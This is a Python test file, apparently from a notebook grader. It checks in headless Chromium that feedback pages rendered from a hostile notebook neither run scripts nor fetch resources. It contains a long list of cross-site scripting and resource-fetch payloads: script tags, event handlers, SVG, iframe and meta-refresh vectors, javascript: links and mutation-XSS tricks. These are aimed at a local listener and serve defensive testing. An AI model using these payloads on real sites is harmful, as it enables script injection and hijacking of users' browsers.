"""A hostile notebook in a real browser: nothing runs, nothing is fetched. Without our walls, both happen."""

from __future__ import annotations

import http.server
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from grader.report.feedback import feedback_html
from tests.report.notebooks import FILE, code, notebook, shown, stream, text
from tests.report.samples import hostile

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine")

SAFE_TITLE = "Feedback: hw.ipynb"


class Listener(http.server.BaseHTTPRequestHandler):
    """Answers everything with a script, and remembers who asked."""

    def do_GET(self) -> None:
        self.server.seen.append(self.path)  # type: ignore[attr-defined]
        body = b"document.title = 'taken over'"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """An address, and the paths that were asked of it."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    server.seen = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", server.seen  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def attacks(host: str) -> list[str]:
    """Markup of which each piece runs a script or fetches something in a page that lets it."""
    run = "document.title='taken over'"
    return [
        f"<script>{run}</script>",
        f"<script src='{host}/script.js'></script>",
        f'<img src=x onerror="{run}">',
        f"<img src='{host}/image.png'>",
        f"<img srcset='{host}/set.png 1x' src=''>",
        f"<svg onload=\"{run}\"><image href='{host}/svg.png'/><script>{run}</script></svg>",
        f"<svg><style>*{{background:url({host}/svgstyle)}}</style></svg>",
        f"<iframe src='{host}/frame'></iframe><iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
        f"<object data='{host}/object'></object><embed src='{host}/embed'>",
        f"<link rel=stylesheet href='{host}/style.css'><link rel=prefetch href='{host}/prefetch'>",
        f"<link rel=dns-prefetch href='//evil.invalid'><link rel=preconnect href='{host}'>",
        f"<style>@import '{host}/import.css'; body {{ background: url({host}/background) }}</style>",
        f"<p style=\"background:url('{host}/inline')\">styled</p>",
        f'<meta http-equiv=refresh content="0;url={host}/refresh">',
        f"<base href='{host}/base/'>",
        f"<form action='{host}/form'><input type=submit autofocus onfocus=\"{run}\"></form>",
        f'<details open ontoggle="{run}">x</details>',
        f"<video poster='{host}/poster' src='{host}/video' autoplay></video><audio src='{host}/audio'></audio>",
        f"<body onload=\"{run}\"><table background='{host}/table'><tr><td>x</table>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
        f"<noscript><p title='</noscript><img src=x onerror={run}>'>",
        f"<textarea><script>{run}</script></textarea></title><script>{run}</script>",
        f"</section></main></body><script>{run}</script>",
        f"<a href=\"javascript:{run}\" ping='{host}/ping'>a</a> [b](javascript:{run})",
        f"[c](data:text/html,<script>{run}</script>)",
        f"![d]({host}/markdown.png) ![e](javascript:{run}) ![f](data:image/svg+xml;base64,PHN2Zz4=)",
        "![g](attachment:x)",
        f"[h]: {host}/reference\n![h]",
        f"$$</p><script>{run}</script>$$ and $<img src=x onerror={run}>$ `<script>{run}</script>`",
        f'```html"><script>{run}</script>\n<script>{run}</script>\n```',
        f"<!--><script>{run}</script>-->",
        "{{ 7*7 }} {% raw %} {{ cell.__class__ }}",
    ]


def hostile_notebook(host: str) -> dict:
    """Each attack wherever a notebook has text."""
    cells = []
    for attack in attacks(host):
        cells += [
            text(attack, metadata={"tags": [attack.replace(",", "")], "name": attack}),
            code(
                f"'''{attack}'''\n# {attack}\n%%html\n{attack}",
                stream(f"\x1b]8;;{host}/osc\x07link\x1b]8;;\x07 {attack}\n"),
                shown({"text/html": attack, "text/plain": attack}),
                shown({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{attack}</svg>"}),
                shown({"application/javascript": "document.title='taken over'"}),
                shown({"text/javascript": f"fetch('{host}/fetch')", "text/markdown": attack}),
                shown({"image/png": f'"><script>{attack}</script>', "text/latex": attack}),
                shown({'image/png"onerror=alert(1)': "AAAA", attack: attack}),
                {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
            ),
            {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": attack},
            text(
                "![x](attachment:x) ![y](attachment:y.svg)",
                attachments={
                    "x": {"image/svg+xml": attack, "image/png": attack},
                    "y.svg": {"image/svg+xml": "<svg onload=\"document.title='taken over'\"/>"},
                },
            ),
        ]
    made = notebook(*cells)
    made["metadata"] = {"title": attacks(host)[0], "language": 7, "kernelspec": {"name": "<script>"}}
    return made


def dumped(path, tmp_path) -> str:
    """The document as the browser has it after its scripts and fetches had time."""
    ran = subprocess.run(
        [
            str(CHROMIUM),
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--virtual-time-budget=4000",
            "--dump-dom",
            path.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    return ran.stdout


def title_of(dom: str) -> str:
    return dom.partition("<title>")[2].partition("</title>")[0]


@needs_chromium
def test_nothing_in_a_hostile_notebook_runs_and_no_request_leaves(tmp_path):
    with listening() as (host, seen):
        page = tmp_path / "page.html"
        page.write_text(feedback_html(hostile_notebook(host), hostile(), file=FILE), encoding="utf-8")
        dom = dumped(page, tmp_path)
    assert title_of(dom) == SAFE_TITLE
    assert seen == []
    assert "taken over" in dom, "the attacks are on the page, as text"


@needs_chromium
def test_not_even_without_the_content_security_policy(tmp_path):
    """Two walls: the policy is the second one, so the first has to hold alone."""
    with listening() as (host, seen):
        page = tmp_path / "page.html"
        html = feedback_html(hostile_notebook(host), hostile(), file=FILE)
        start = html.index('<meta http-equiv="Content-Security-Policy"')
        page.write_text(html[:start] + html[html.index(">", start) + 1 :], encoding="utf-8")
        dom = dumped(page, tmp_path)
    assert title_of(dom) == SAFE_TITLE
    assert seen == []


@needs_chromium
def test_the_content_security_policy_alone_holds_too(tmp_path):
    """The first wall taken away: what a student wrote stands raw in the page."""
    with listening() as (host, seen):
        page = tmp_path / "page.html"
        html = feedback_html(notebook(text("here")), hostile(), file=FILE)
        # Navigation is what no policy forbids; a refresh is for the first wall.
        raw = "".join(attack for attack in attacks(host) if "refresh" not in attack)
        page.write_text(html.replace("<p>here</p>", raw), encoding="utf-8")
        assert raw in page.read_text(encoding="utf-8")
        dom = dumped(page, tmp_path)
    assert title_of(dom) == SAFE_TITLE
    assert seen == []


@needs_chromium
@pytest.mark.parametrize("number", [0, 1, 2, 11, 13])
def test_the_same_markup_does_its_harm_in_a_page_without_walls(number, tmp_path):
    """So the tests above can fail."""
    with listening() as (host, seen):
        page = tmp_path / "page.html"
        page.write_text(
            f"<!doctype html><title>{SAFE_TITLE}</title>{attacks(host)[number]}", encoding="utf-8"
        )
        dom = dumped(page, tmp_path)
    assert title_of(dom) != SAFE_TITLE or seen != []
